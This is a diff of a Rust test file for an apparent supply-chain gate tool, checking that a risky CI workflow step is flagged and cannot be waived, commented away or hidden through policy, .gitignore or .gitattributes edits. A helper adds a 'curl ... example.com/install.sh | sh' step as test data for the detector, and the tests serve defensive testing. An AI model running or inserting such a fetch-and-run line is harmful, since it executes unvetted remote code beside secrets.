@@ -8,8 +8,8 @@ use common::repo::{FETCHING, PUSHING, Repo, Seen, WORKFLOW, with};
 
 /// A repository with something to protect, and a change that brings an attack together with what it tries.
 fn attempt(name: &str, before: &[(&str, &str)], tries: &[(&str, &str)]) -> (Repo, Seen) {
-    let repo = with(name, &[&[("README.md", "# app\n"), ("Dockerfile", "FROM scratch\n")][..], before].concat());
-    for (path, text) in [("Dockerfile", FETCHING)].iter().chain(tries) {
+    let repo = with(name, &[&[("README.md", "# app\n"), (WORKFLOW, PUSHING)][..], before].concat());
+    for (path, text) in [(WORKFLOW, attack().as_str())].iter().chain(tries) {
         repo.write(path, text);
     }
     repo.commit();
@@ -17,10 +17,15 @@ fn attempt(name: &str, before: &[(&str, &str)], tries: &[(&str, &str)]) -> (Repo
     (repo, seen)
 }
 
+/// A step that runs what it downloads, beside a secret.
+fn attack() -> String {
+    format!("{PUSHING}      - run: curl -sSL https://example.com/install.sh | sh\n")
+}
+
 /// The change does not pass, and the attack stands there as something that it brings.
 fn assert_told(seen: &Seen) {
     let told = seen.list(&["new", "changed", "needs-approval", "expired"]);
-    assert!(told.iter().any(|line| line.ends_with("fetch-to-interpreter Dockerfile")), "{told:?}");
+    assert!(told.iter().any(|line| line.ends_with(&format!("fetch-to-interpreter {WORKFLOW}"))), "{told:?}");
     assert_eq!(seen.code, 1, "{told:?}");
 }
 
@@ -30,30 +35,31 @@ fn assert_in_vain(name: &str, before: &[(&str, &str)], tries: &[(&str, &str)]) -
     seen
 }
 
-const WAIVER: &str = "[[waiver]]\nrule = \"fetch-to-interpreter\"\npath = \"Dockerfile\"\nreason = \"we trust it\"\n\
+const WAIVER: &str = "[[waiver]]\nrule = \"fetch-to-interpreter\"\npath = \".github/**\"\nreason = \"we trust it\"\n\
                       owner = \"@example\"\nuntil = 2027-01-31\n";
 const LOOSE: &str = "[gate.rule]\nfetch-to-interpreter = \"note\"\n";
 
 #[test]
 fn a_comment_that_the_change_brings_waits_for_approval() {
-    let excused = FETCHING.replace("RUN", "# custody: ignore[fetch-to-interpreter] -- fine\nRUN");
-    let (repo, seen) = attempt("inline", &[], &[("Dockerfile", &excused)]);
+    let comment = "      # custody: ignore[fetch-to-interpreter] -- fine\n      - run: curl";
+    let excused = attack().replace("      - run: curl", comment);
+    let (repo, seen) = attempt("inline", &[], &[(WORKFLOW, &excused)]);
     assert_told(&seen);
-    assert_eq!(seen.list(&["needs-approval"]), ["needs-approval fetch-to-interpreter Dockerfile"]);
+    assert_eq!(seen.list(&["needs-approval"]), [format!("needs-approval fetch-to-interpreter {WORKFLOW}")]);
     let approvals = seen.audit["gate"]["approvals"].to_string();
-    assert!(approvals.contains("\"line\":2") && approvals.contains("Dockerfile"), "{approvals}");
+    assert!(approvals.contains("\"line\":14") && approvals.contains(WORKFLOW), "{approvals}");
     // Once it is in the base it holds.
     repo.write("more.txt", "x\n").commit();
     let seen = repo.gate(&["--base", "HEAD^"]);
     assert_eq!((seen.list(&["needs-approval", "new"]).len(), seen.code), (0, 0));
-    assert_eq!(seen.list(&["suppressed"]), ["suppressed fetch-to-interpreter Dockerfile"]);
+    assert_eq!(seen.list(&["suppressed"]), [format!("suppressed fetch-to-interpreter {WORKFLOW}")]);
 }
 
 #[test]
 fn a_waiver_that_the_change_brings_waits_for_approval() {
     let (repo, seen) = attempt("waiver", &[], &[("custody.toml", WAIVER)]);
     assert_told(&seen);
-    assert_eq!(seen.list(&["needs-approval"]), ["needs-approval fetch-to-interpreter Dockerfile"]);
+    assert_eq!(seen.list(&["needs-approval"]), [format!("needs-approval fetch-to-interpreter {WORKFLOW}")]);
     let approvals = seen.audit["gate"]["approvals"].to_string();
     assert!(approvals.contains("custody.toml") && approvals.contains("\"line\":1"), "{approvals}");
     repo.write("more.txt", "x\n").commit();
@@ -71,12 +77,12 @@ fn a_policy_that_the_change_edits_is_not_in_force() {
         &[],
         &[("pyproject.toml", "[tool.custody.gate.rule]\nfetch-to-interpreter = \"note\"\n")],
     );
-    assert_in_vain("roles", &[], &[("custody.toml", "[roles]\n\"Dockerfile\" = \"example\"\n")]);
+    assert_in_vain("roles", &[], &[("custody.toml", "[roles]\n\".github/**\" = \"example\"\n")]);
 }
 
 #[test]
 fn a_policy_that_the_change_removes_stays_in_force() {
-    let strict = "[gate.rule]\nunpinned-image = \"block\"\n";
+    let strict = "[gate.rule]\nunpinned-base-image = \"block\"\n";
     let repo = with("removed_policy", &[("custody.toml", strict), ("Dockerfile", "FROM scratch\n")]);
     repo.remove("custody.toml").write("Dockerfile", "FROM debian:12\n").commit();
     let seen = repo.gate(&["--base", "HEAD^"]);
@@ -87,7 +93,7 @@ fn a_policy_that_the_change_removes_stays_in_force() {
         .filter(|f| f["decision"] == "block")
         .filter_map(|f| f["rule"].as_str())
         .collect();
-    assert!(blocks.contains(&"unpinned-image"), "{blocks:?}");
+    assert!(blocks.contains(&"unpinned-base-image"), "{blocks:?}");
 }
 
 #[test]
@@ -109,11 +115,11 @@ fn settings_of_cargo_and_rustup_run_nothing_and_silence_nothing() {
 
 #[test]
 fn what_git_is_told_about_files_hides_none() {
-    assert_in_vain("gitignore", &[], &[(".gitignore", "Dockerfile\n*\n")]);
+    assert_in_vain("gitignore", &[], &[(".gitignore", ".github/\n*\n")]);
     assert_in_vain(
         "gitattributes",
         &[],
-        &[(".gitattributes", "Dockerfile export-ignore filter=lfs -diff binary linguist-generated eol=crlf\n")],
+        &[(".gitattributes", "* export-ignore filter=lfs -diff binary linguist-generated eol=crlf\n")],
     );
 }
 
@@ -125,7 +131,9 @@ fn folders_for_examples_make_nothing_lighter() {
         repo.write(&path, FETCHING).commit();
         let seen = repo.gate(&["--base", "HEAD^"]);
         assert_eq!(seen.list(&["new"]).iter().filter(|l| l.contains("fetch-to-interpreter")).count(), 1, "{folder}");
-        assert_eq!(seen.code, 1, "{folder}");
+        let found = seen.audit["findings"].as_array().expect("findings").iter().find(|f| f["path"] == path.as_str());
+        let found = found.expect("a finding");
+        assert_eq!((&found["role"], &found["decision"]), (&"product".into(), &"advise".into()), "{folder}");
     }
 }
 
